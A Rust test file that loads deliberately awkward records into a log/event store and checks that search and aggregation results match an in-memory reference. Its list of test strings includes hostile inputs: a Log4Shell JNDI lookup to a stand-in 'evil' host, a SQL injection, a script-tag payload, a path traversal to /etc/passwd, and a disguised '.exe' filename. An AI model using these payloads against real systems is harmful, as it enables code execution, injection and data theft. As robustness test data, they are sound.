//! Records that someone made to be troublesome are found as any other, and come back as they were.

use chrono::TimeDelta;
use event::lake::{LakeReader as _, MemoryLake, Search};
use event::query::{Comparison, Query, Test, escape, matches, parse_question};
use event::{Attr, Attrs, Event, Fields, IdSource, Name, Scope, Value};
use lake::Lake;
use lake::keep::verify_file;

use crate::home::{
    Home, at, event as plain_event, found_ids, newest_first, run, search_for, start,
};

/// Texts in which letters, marks and signs are not what they seem.
fn texts() -> Vec<String> {
    let mut texts: Vec<String> = [
        "",
        " ",
        "\u{0}",
        "a\u{0}b\u{0}\u{0}cd",
        "\r\n\tdòng một\r\ndòng hai\u{85}dòng ba\u{2028}dòng bốn",
        "Đăng nhập thất bại từ xa",
        "Đa\u{306}ng nha\u{323}\u{302}p tha\u{302}\u{301}t ba\u{323}i",
        "d\u{335}\u{336}\u{337}\u{338}ang\u{301}\u{301}\u{301}\u{301}\u{301}",
        "\u{301}dấu đứng đầu",
        "người dùng 👩‍👩‍👧‍👦 🇻🇳 👍🏽 đã vào",
        "🇻🇳🇻🇳",
        "مستخدم admin دخل ١٢٣",
        "\u{202e}gpj.exe\u{202c} tệp",
        "שלום עולם",
        "日本語のログ 管理者",
        "한국어 로그",
        "\u{1112}\u{1161}\u{11ab}\u{1100}\u{116e}\u{11a8}",
        "ไทยภาษา ผู้ใช้",
        "हिन्दी उपयोगकर्ता",
        "İstanbul ISTANBUL ıstanbul istanbul",
        "STRASSE straße STRAẞE",
        "ﬁle ﬀ ﬃ Ǆ ǆ ǅ",
        "K\u{212a} Å\u{212b} Ω\u{2126} ſſ",
        "ΑΣΣ ασς ΑΣ",
        "ａｄｍｉｎ １２３ admin",
        "a\u{200b}d\u{200d}m\u{ad}i\u{feff}n",
        "\u{feff}bom",
        "non\u{a0}breaking\u{202f}blank",
        "x\u{fffd}y\u{fffd}",
        "𝕒𝕕𝕞𝕚𝕟 𐐀𐐨",
        "a_b__c _ __ _a",
        "a-b.c/d\\e:f;g,h|i",
        "C:\\Windows\\System32\\cmd.exe /c \"echo *?\"",
        "\\\\server\\share$\\*",
        "100% *sure* ? [a-z] (b|c) {1,2} ^$ \\*",
        "<script>alert('x')</script>&amp;",
        "' OR 1=1 --",
        "${jndi:ldap://evil/a}",
        "%00%0d%0a../../etc/passwd",
        "{\"user\":\"an\",\"user\":\"binh\"}",
        "1e309 -0 0x1F 1_000 ١٢",
        "9223372036854775807 -9223372036854775808 18446744073709551615",
        "10.0.0.1 010.000.000.001 10.0.0.1.2 ::1 ::ffff:10.0.0.1 fe80::1%eth0",
        "null NULL None nil undefined",
        "a, b, c",
        ", ",
        "true",
    ]
    .map(str::to_owned)
    .into();
    texts.push("x".repeat(40_000));
    texts.push("Ấ".repeat(4_000) + " kim");
    texts.push("w ".repeat(4_000) + "cuoi");
    texts.push((0..900).map(|number| format!("t{number}")).collect::<Vec<_>>().join(" "));
    texts
}

/// Values of all kinds.
fn values() -> Vec<Value> {
    let mut values: Vec<Value> = texts().into_iter().map(Value::Text).collect();
    let exact = 1_i64 << 53;
    let ints = [0, -1, 1, exact, exact + 1, -exact - 1, i64::MAX, i64::MIN, 4_625];
    values.extend(ints.map(Value::Int));
    let floats = [0.0, -0.0, 0.1 + 0.2, 1e308, -1e308, 5e-324, 1.844_674_407_370_955_2e19];
    values.extend(floats.map(Value::Float));
    values.extend([Value::Null, Value::Bool(true), Value::Bool(false)]);
    values.push(Value::List(Vec::new()));
    values.push(Value::List(vec![Value::Null]));
    values.push(Value::List(vec!["a".into(), "a, b".into(), Value::Int(7), Value::Bool(true)]));
    values
}

/// Names of fields that are those of attributes, of columns, or of nothing.
const NAMES: [&str; 16] = [
    "own",
    "OWN",
    "Own",
    "user",
    "USER",
    "actor.user.name",
    "raw",
    "id",
    "extra_text",
    "",
    " ",
    "a.b.c",
    "tên trường",
    "te\u{302}n trường",
    "src_port",
    "event_note",
];

const ATTRS: [Attr; 6] =
    [Attr::User, Attr::SrcPort, Attr::SrcIp, Attr::CmdLine, Attr::Url, Attr::EventCode];

fn events() -> Vec<Event> {
    let ids = IdSource::seeded(77);
    let (texts, values) = (texts(), values());
    let made = values.iter().enumerate().map(|(number, value)| {
        let mut attrs = Attrs::default();
        attrs.set(ATTRS[number % ATTRS.len()], value.clone());
        let name = |at: usize| Name::Borrowed(NAMES[at % NAMES.len()]);
        let mut fields: Vec<(Name, Value)> = vec![(name(number), value.clone())];
        let other = values[(number * 7 + 3) % values.len()].clone();
        if NAMES[number % NAMES.len()] != NAMES[(number * 5 + 1) % NAMES.len()] {
            fields.push((name(number * 5 + 1), other));
        }
        let raw = texts[(number * 3 + 1) % texts.len()].clone();
        let event = plain_event(&ids, i64::try_from(number).unwrap());
        Event { attrs, fields: fields.into_iter().collect::<Fields>(), raw, ..event }
    });
    let mut events: Vec<Event> = made.collect();
    // Thousands of fields in one event.
    let many = (0..3000).map(|number| {
        (Name::Owned(format!("trường {number}")), Value::Text(format!("giá trị {number}")))
    });
    let plain = plain_event(&ids, 5_000);
    events.push(Event { fields: many.collect::<Fields>(), ..plain });
    events
}

/// Words, beginnings, ends and middles of a text, as patterns.
fn patterns(text: &str) -> Vec<String> {
    let chars: Vec<char> = text.chars().collect();
    let part = |from: usize, to: usize| -> String {
        escape(&chars[from.min(chars.len())..to.min(chars.len())].iter().collect::<String>())
    };
    let count = chars.len();
    let mut patterns = Vec::new();
    if count <= 200 {
        patterns.push(escape(text));
    }
    for length in [1, 3, 6] {
        patterns.push(format!("{}*", part(0, length)));
        patterns.push(format!("*{}", part(count.saturating_sub(length), count)));
        patterns.push(format!("*{}*", part(count / 2, count / 2 + length)));
        patterns.push(part(count / 3, count / 3 + length));
    }
    patterns.push(format!("{}?{}", part(0, 2), part(3, 7)));
    for word in text.split_whitespace().chain(text.split(|c: char| !c.is_alphanumeric())).take(6) {
        if word.chars().count() <= 40 {
            patterns.push(escape(word));
        }
    }
    // Values stand in the files one a line: a line break in a pattern may be that between two of them.
    patterns.retain(|pattern| !pattern.is_empty() && !pattern.contains('\n'));
    patterns
}

fn queries(events: &[Event]) -> Vec<Query> {
    let mut queries = Vec::new();
    let field = |name: &str, test| Query::Field { name: name.to_owned(), test };
    for event in events.iter().take(events.len() - 1) {
        queries.extend(patterns(&event.raw).into_iter().map(Query::Text));
        let own = event.fields.iter().map(|(name, value)| (name.to_owned(), value.clone()));
        let attrs =
            event.attrs.iter().map(|(attr, value)| (attr.alias().to_owned(), value.clone()));
        for (name, value) in own.chain(attrs).collect::<Vec<_>>() {
            let text = value.text();
            for pattern in patterns(&text) {
                queries.push(field(&name, Test::Like(pattern.clone())));
                queries.push(Query::Text(pattern));
            }
            queries.push(field(&name, Test::Exists));
            queries.push(field(&name, Test::Like(String::new())));
            queries.push(Query::Not(Box::new(field(&name, Test::Exists))));
            if let Ok(number) = text.trim().parse::<f64>() {
                queries.push(field(&name, Test::Compare(Comparison::GreaterOrEqual, number)));
                queries.push(field(&name, Test::Compare(Comparison::Less, number)));
                queries.push(field(&name, Test::Range(number, number)));
            }
        }
    }
    for number in [0, 7, 2_999, 3_000] {
        queries.push(field(&format!("trường {number}"), Test::Like(format!("giá trị {number}"))));
        queries.push(Query::Text(format!("giá trị {number}")));
    }
    let mut seen = std::collections::BTreeSet::new();
    queries.retain(|query| seen.insert(format!("{query:?}")));
    queries
}

async fn check(lake: &Lake, events: &[Event], queries: &[Query], when: &str) {
    let mut wrong = Vec::new();
    for query in queries {
        let expected = newest_first(events.iter().filter(|event| matches(query, event)));
        let found = found_ids(lake, &Scope::platform(), search_for(query.clone(), 300)).await;
        if found != expected {
            wrong.push(format!("{query:?}: {} instead of {}", found.len(), expected.len()));
        }
    }
    assert!(wrong.is_empty(), "{when}: {} of {}: {wrong:#?}", wrong.len(), queries.len());
}

#[test]
fn troublesome_records_are_found_wherever_they_lie() {
    let events = events();
    let queries: Vec<Query> = queries(&events).into_iter().step_by(2).collect();
    assert!(queries.len() > 1000, "{}", queries.len());
    run(async {
        let home = Home::new();
        let lake = home.open().await;
        let half = events.len() / 2;
        lake.append(events[..half].to_vec(), at(1)).await.unwrap();
        lake.append(events[half..].to_vec(), at(2)).await.unwrap();
        check(&lake, &events, &queries, "in memory").await;
        lake.flush().await.unwrap();
        check(&lake, &events, &queries, "in files").await;
        let mut back = Vec::new();
        for event in &events {
            back.extend(lake.events(&Scope::platform(), &[event.id]).await.unwrap());
        }
        assert!(back == events, "what comes back is not what went in");
        lake.close().await;
    });
}

#[test]
fn a_whole_file_of_troublesome_records_is_in_order() {
    let ids = IdSource::seeded(5);
    // Each on a day of its own: the first event of each file is asked for.
    let raws =
        ["{\"_path\":\"dns\"}", "đpath1 x", "ſtart", "x_1234_y", "\u{212a}elvin", "a\u{301}bcd"];
    let of_day = |(day, raw): (usize, &str)| {
        let event = plain_event(&ids, i64::try_from(day).unwrap() * 86_400);
        Event { raw: raw.to_owned(), ..event }
    };
    let events: Vec<Event> = raws.into_iter().enumerate().map(of_day).collect();
    run(async {
        let home = Home::new();
        let lake = home.open().await;
        lake.append(events, at(1)).await.unwrap();
        lake.flush().await.unwrap();
        assert_eq!(lake.files().len(), raws.len());
        for file in lake.files() {
            assert_eq!(verify_file(&home.place(), &file), []);
        }
        lake.close().await;
    });
}

/// Questions that count troublesome values.
const STAGES: [&str; 8] = [
    "| stats count(), distinct(user), min(src_port), max(src_port) by own",
    "| stats count() by user",
    "| stats sum(src_port), count(OWN) by cmd_line",
    "| stats distinct(url), min(event_code), max(own)",
    "| timechart span=1m count() by user",
    "| top 50 user",
    "| rare 50 src_port",
    "| stats count() as n by src_ip, \"tên trường\" | where n > 0 | sort -n | limit 50",
];

#[test]
fn troublesome_values_are_counted_as_the_twin_counts_them() {
    let events = events();
    run(async {
        let home = Home::new();
        let lake = home.open().await;
        let twin = MemoryLake::with(events.clone());
        let half = events.len() / 2;
        lake.append(events[..half].to_vec(), at(1)).await.unwrap();
        lake.flush().await.unwrap();
        lake.append(events[half..].to_vec(), at(2)).await.unwrap();
        for when in ["half in files", "in files"] {
            let span = Search {
                from: start() - TimeDelta::hours(1),
                to: start() + TimeDelta::hours(3),
                ..search_for(Query::All, 0)
            };
            for name in NAMES.iter().copied().chain(ATTRS.map(Attr::alias)) {
                let ours = lake.top(&Scope::platform(), &span, name, 1000).await.unwrap();
                let twins = twin.top(&Scope::platform(), &span, name, 1000).await.unwrap();
                assert_eq!(ours, twins, "{when}: {name:?}");
            }
            for stages in STAGES {
                let summary = parse_question(stages).unwrap().summary.unwrap();
                let ours = lake.summarise(&Scope::platform(), &span, &summary).await.unwrap();
                let twins = twin.summarise(&Scope::platform(), &span, &summary).await.unwrap();
                assert_eq!(ours.rows, twins.rows, "{when}: {stages}");
            }
            lake.flush().await.unwrap();
        }
        lake.close().await;
    });
}
